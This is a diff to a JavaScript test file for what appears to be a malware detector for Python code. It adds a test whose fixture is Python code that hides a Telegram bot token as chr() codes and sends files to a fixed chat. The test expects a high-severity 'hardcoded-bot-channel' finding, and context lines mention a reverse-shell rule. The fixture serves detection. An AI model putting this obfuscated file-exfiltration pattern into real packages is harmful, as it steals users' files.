@@ -95,3 +95,23 @@ test('a chat bot that hands a shell the command lines it is sent is a remote she
   const list = bot.replace('subprocess.Popen(command, shell=True', 'subprocess.Popen(["yt-dlp", command]');
   assert.equal(ruleOf(findings(list), 'reverse-shell'), undefined, 'an argument list runs no shell');
 });
+
+test("a Telegram bot built with a token the package writes (as chr() codes) and sending files is the author's channel", () => {
+  const token = '1234567890:AAbbCCddEEffGGhhIIjjKKllMMnnOOppQQr';
+  const source = [
+    'from telegram import Bot',
+    'def d(x):',
+    '    return "".join(chr(i) for i in x)',
+    `_B = [${[...token].map((c) => c.charCodeAt(0)).join(', ')}]`,
+    'async def deliver(path):',
+    '    bot = Bot(token=d(_B))',
+    '    await bot.send_document(chat_id="1000", document=open(path, "rb"))',
+  ].join('\n');
+  const channel = ruleOf(findings(source), 'hardcoded-bot-channel');
+  assert.equal(channel?.severity, 'high');
+  assert.equal(channel?.line, 6);
+  const library = source
+    .replace('Bot(token=d(_B))', 'Bot(token=user_token)')
+    .replace('async def deliver(path)', 'async def deliver(path, user_token)');
+  assert.equal(ruleOf(findings(library), 'hardcoded-bot-channel'), undefined, "the user's own token");
+});
